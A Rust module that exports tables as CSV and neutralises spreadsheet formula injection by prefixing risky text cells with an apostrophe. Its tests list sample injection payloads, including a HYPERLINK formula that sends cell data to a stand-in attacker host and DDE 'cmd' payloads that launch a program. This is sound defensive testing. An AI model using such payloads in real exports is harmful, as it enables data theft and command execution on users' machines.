//! Tables as CSV (RFC 4180): UTF-8, a line of names, UTC times in ISO 8601, numbers plain with all their digits.
//!
//! A spreadsheet takes text that begins with `=`, `+`, `-`, `@` (full-width ones too), a tab, a line's end or NUL for a
//! formula, whoever wrote it: such text gets an apostrophe before it. Numbers never do; they are the desk's own.

use axum::{
    http::{HeaderValue, StatusCode, header},
    response::{IntoResponse, Response},
};
use model::time::Timestamp;

/// A row of a table.
pub trait CsvRow {
    /// The names of the columns.
    const COLUMNS: &'static [&'static str];

    /// Returns a cell for each column.
    fn cells(&self) -> Vec<Cell>;
}

/// A cell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Words and names.
    Text(String),
    /// A number.
    Number(String),
    /// Nothing.
    Empty,
}

impl Cell {
    /// Returns a cell of text.
    pub fn text(text: impl ToString) -> Self {
        Self::Text(text.to_string())
    }

    /// Returns a cell with a number.
    pub fn number(number: impl ToString) -> Self {
        Self::Number(number.to_string())
    }

    /// Returns a cell with a number, or an empty one.
    pub fn maybe(number: Option<impl ToString>) -> Self {
        number.map_or(Self::Empty, Self::number)
    }

    /// Returns a cell with a time, which begins with a year.
    pub fn time(time: Timestamp) -> Self {
        Self::Number(time.to_string())
    }

    fn into_field(self) -> String {
        match self {
            Self::Text(text) if text.starts_with(FORMULA_STARTS) => format!("'{text}"),
            Self::Text(text) | Self::Number(text) => text,
            Self::Empty => String::new(),
        }
    }
}

/// Returns a table as an answer.
pub fn response<T: CsvRow>(rows: &[T]) -> Response {
    let headers = [
        (header::CONTENT_TYPE, HeaderValue::from_static("text/csv; charset=utf-8")),
        (header::CONTENT_DISPOSITION, HeaderValue::from_static("attachment")),
    ];
    match table(rows) {
        Ok(bytes) => (headers, bytes).into_response(),
        Err(error) => {
            tracing::error!(%error, "a table could not be written");
            StatusCode::INTERNAL_SERVER_ERROR.into_response()
        }
    }
}

fn table<T: CsvRow>(rows: &[T]) -> csv::Result<Vec<u8>> {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(T::COLUMNS)?;
    for row in rows {
        writer.write_record(row.cells().into_iter().map(Cell::into_field))?;
    }
    writer.into_inner().map_err(|error| error.into_error().into())
}

/// First characters of a formula, for one spreadsheet or another.
const FORMULA_STARTS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

#[cfg(test)]
mod tests {
    use super::*;

    struct Row(Cell);

    impl CsvRow for Row {
        const COLUMNS: &'static [&'static str] = &["first", "second"];

        fn cells(&self) -> Vec<Cell> {
            vec![self.0.clone(), Cell::Empty]
        }
    }

    #[test]
    fn text_is_never_a_formula_and_numbers_stay_as_they_are() {
        #[track_caller]
        fn check(cell: Cell, expected: &str) {
            let bytes = table(&[Row(cell)]).unwrap();
            assert_eq!(String::from_utf8(bytes).unwrap(), format!("first,second\r\n{expected},\r\n"));
        }
        check(Cell::text("=1+1"), "'=1+1");
        check(Cell::text("+1"), "'+1");
        check(Cell::text("-cmd"), "'-cmd");
        check(Cell::text("@kill-7"), "'@kill-7");
        check(Cell::text("\tx"), "'\tx");
        check(Cell::text("\rx"), "\"'\rx\"");
        check(Cell::text("a,\"b\"\r\nc"), "\"a,\"\"b\"\"\r\nc\"");
        check(Cell::text("a=b"), "a=b");
        check(Cell::number("-0.50"), "-0.50");
        check(Cell::time(Timestamp::from_millis(1)), "1970-01-01T00:00:00.001Z");
    }

    /// The cells as another program reads them: formulas as text after an apostrophe, numbers unchanged.
    #[test]
    fn cells_are_read_as_they_were_written() {
        let formulas = [
            "=1+1",
            "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\0=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "=\"a\",\"b\"\r\n=2",
        ];
        let harmless = ["", " =1+1", "a=b", "kill-7", "1-2", "\"quoted\", with a comma", "two\r\nlines", "'=1"];
        let numbers = ["-0.50", "-1", "-1234567.000000001", "0", "12.5"];
        let text = |prefix: &'static str| move |text: &str| (Cell::text(text), format!("{prefix}{text}"));
        let cells: Vec<(Cell, String)> = formulas
            .into_iter()
            .map(text("'"))
            .chain(harmless.into_iter().map(text("")))
            .chain(numbers.into_iter().map(|number| (Cell::number(number), number.to_owned())))
            .collect();
        assert!(cells.len() >= 30);
        let rows: Vec<Row> = cells.iter().map(|(cell, _)| Row(cell.clone())).collect();
        let bytes = table(&rows).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let read: Vec<String> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
        let expected: Vec<String> = cells.into_iter().map(|(_, expected)| expected).collect();
        assert_eq!(read, expected);
    }
}
